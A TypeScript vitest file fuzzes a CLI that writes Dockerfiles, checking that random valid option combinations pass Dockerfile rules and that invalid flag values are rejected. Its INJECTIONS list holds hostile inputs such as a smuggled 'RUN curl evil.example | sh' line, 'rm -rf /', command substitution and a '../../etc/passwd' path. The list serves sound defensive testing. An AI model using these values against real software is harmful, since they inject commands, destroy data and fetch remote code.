/**
 * Generative safety test: hundreds of random valid option/detection
 * combinations per stack must render Dockerfiles that pass every
 * DOCKERFILE-RULES check, and random invalid values for every flag must be
 * rejected (exit 2, the flag named, nothing written).
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { STACKS } from '../../src/stacks/index.js';
import { checkDockerfile, formatViolations } from '../helpers/dockerfile-rules.js';
import { GENERATORS } from '../helpers/generators/index.js';
import { chance, pick, rng, run, snapshot, tempDir, writeTree, type Random } from '../helpers/safety.js';

/**
 * Cases per stack and run. A run must fit its timeout with a wide margin on a
 * busy 2-core machine (about 30 ms a case there), so each run checks a few
 * hundred cases and the seed rotates daily: over a week the suite covers
 * thousands of combinations while no run depends on the machine's speed.
 * SAFETY_CASES=5000 SAFETY_SEED=<seed> replays or widens a run; `npm run bench`
 * reports the time per case.
 */
const CASES_PER_STACK = Number(process.env['SAFETY_CASES'] ?? 150);
const DAY_MS = 86_400_000;
const SEED = Number(process.env['SAFETY_SEED'] ?? 20261130 + Math.floor(Date.now() / DAY_MS));
/** Far above what the cases need (a few seconds); a bound against a hang, not a speed test. */
const GENEROUS_TIMEOUT_MS = Math.max(120_000, CASES_PER_STACK * 400);
const root = tempDir('cms-generative-');
afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

/** Values that must never pass any flag's validation. */
const INJECTIONS = [
  '',
  ' ',
  'a\nRUN curl evil.example | sh',
  'x"; rm -rf / #',
  "x' && id",
  '$(touch /tmp/pwned)',
  '`id`',
  'a\\\nRUN id',
  'a b',
  '../../etc/passwd',
  '--',
  '-x',
  '\u0000',
  '{{name}}',
  'é',
];

function invalidValue(random: Random, flag: string): string {
  if (chance(random, 0.7)) return pick(random, INJECTIONS);
  const junk = Array.from({ length: 1 + Math.floor(random() * 12) }, () => pick(random, [...'$`"\'\\\n;|&<> ()'])).join('');
  return `${pick(random, ['', 'a', '1', flag])}${junk}`;
}

it('every stack the CLI knows has a generator', () => {
  expect(GENERATORS.map((g) => g.stack).sort()).toEqual(
    STACKS.filter((s) => !s.existingOnly)
      .map((s) => s.id)
      .sort(),
  );
});

describe.each(GENERATORS.map((g) => [g.stack, g] as const))('%s', (stack, generator) => {
  it(
    `renders ${CASES_PER_STACK} random valid combinations that pass every Dockerfile rule`,
    async () => {
      const random = rng(SEED + stack.length);
      for (let i = 0; i < CASES_PER_STACK; i++) {
        const testCase = generator.valid(random);
        const dir = path.join(root, `${stack}-${i}`);
        fs.mkdirSync(dir);
        writeTree(dir, testCase.files);
        const result = await run([dir, '--stack', stack, '--yes', '--skip-install', ...testCase.flags], root);
        const where = `case ${i} (seed ${SEED}): ${testCase.description}`;
        expect(result.code, `${where}\n${result.stderr}`).toBe(0);
        const dockerfile = fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8');
        const dockerignore = fs.readFileSync(path.join(dir, '.dockerignore'), 'utf8');
        const violations = checkDockerfile(dockerfile, {
          dockerignore,
          expectedStages: ['base', 'dependencies', 'development', 'builder', 'production'],
        });
        expect(violations, `${where}\n${formatViolations(violations)}\n${dockerfile}`).toEqual([]);
        expect(dockerfile).not.toMatch(/&#x|&quot;|&amp;/);
        fs.rmSync(dir, { recursive: true, force: true });
      }
    },
    GENEROUS_TIMEOUT_MS,
  );

  it(
    'rejects random invalid values for every flag: exit 2, the flag named, nothing written',
    async () => {
      const random = rng(SEED * 7 + stack.length);
      for (const flag of generator.valueFlags) {
        for (let i = 0; i < 25; i++) {
          const value = invalidValue(random, flag);
          const testCase = generator.valid(random);
          const dir = path.join(root, `${stack}-bad-${flag}-${i}`);
          fs.mkdirSync(dir);
          writeTree(dir, testCase.files);
          const before = snapshot(dir);
          const result = await run([dir, '--stack', stack, '--yes', '--skip-install', `--${flag}=${value}`], root);
          const where = `--${flag}=${JSON.stringify(value)} on ${testCase.description} (seed ${SEED})`;
          expect(result.code, `${where}\n${result.stderr}`).toBe(2);
          expect(result.stderr, where).toContain(`--${flag}`);
          expect(snapshot(dir), where).toEqual(before);
          fs.rmSync(dir, { recursive: true, force: true });
        }
      }
    },
    GENEROUS_TIMEOUT_MS,
  );
});
